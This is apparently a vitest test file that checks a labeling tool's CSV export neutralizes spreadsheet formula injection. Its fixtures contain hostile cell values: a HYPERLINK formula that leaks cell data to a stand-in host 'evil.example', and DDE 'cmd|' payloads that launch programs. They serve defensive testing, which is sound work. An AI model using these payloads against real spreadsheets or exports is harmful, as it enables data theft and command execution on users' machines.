import { writeFileSync, readFileSync } from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { importSamples } from '../import/importSamples';
import { harmLabel, makeWorkspace, TEST_OWNER } from '../testing/fixtures';
import { useTempDirs } from '../testing/tmp';
import { saveLabel } from '../workspace/labels';
import { csvCell } from './csvCell';
import { exportLabels } from './exportLabels';

const tempDir = useTempDirs();

describe('CSV cells', () => {
  it('neutralize every formula-leading cell per OWASP, and quote as RFC 4180 says', () => {
    for (const hostile of ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+cmd|\' /C calc\'!A0', '@SUM(1+1)', '-2+3+cmd|x', '\t=1+1', '\r=1+1', '\n=1+1']) {
      expect(csvCell(hostile)).toBe(`"'${hostile.replace(/"/g, '""')}"`);
    }
    expect(csvCell('plain')).toBe('plain');
    expect(csvCell('a, "b"')).toBe('"a, ""b"""');
    expect(csvCell(-0.5)).toBe('-0.5'); // a number is a value, never a formula
    expect(csvCell(null)).toBe('');
    expect(csvCell({ a: 1 })).toBe('"{""a"":1}"');
  });

  it('reach an exported CSV only as text', async () => {
    const dir = tempDir();
    const ws = await makeWorkspace(dir, 1, ['r1']);
    const file = path.join(dir, 'hostile.jsonl');
    const rows = [
      { id: 'h1', input: '=HYPERLINK("http://evil.example","x")', output: '+cmd|/C calc!A0', note: '@SUM(1+1)' },
      { id: 'h2', input: 'fine', output: 'also fine', note: -3 },
    ];
    writeFileSync(file, rows.map((r) => JSON.stringify(r)).join('\n'));
    await importSamples(ws, { file }, TEST_OWNER);
    for (const s of ['h1', 'h2']) saveLabel(ws, { raterId: 'r1', sampleId: s, values: harmLabel(['none'], 0), timeSpentMs: 1 });
    const out = path.join(dir, 'labels.csv');
    exportLabels(ws, { out, format: 'csv' });
    const table = parse(readFileSync(out, 'utf8'), { columns: true }) as Record<string, string>[];
    const h1 = table.find((r) => r.id === 'h1')!;
    expect([h1.input, h1.output, h1.note]).toEqual(["'" + rows[0].input, "'" + rows[0].output, "'" + rows[0].note]);
    const h2 = table.find((r) => r.id === 'h2')!;
    expect([h2.input, h2.note]).toEqual(['fine', '-3']);
    for (const r of table) for (const cell of Object.values(r)) expect(cell).not.toMatch(/^[=+\-@\t\r\n](?!\d)/);
  });
});
